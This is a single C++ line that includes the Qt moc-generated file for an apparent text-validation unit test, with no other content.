#include "tst_validation_text.moc"
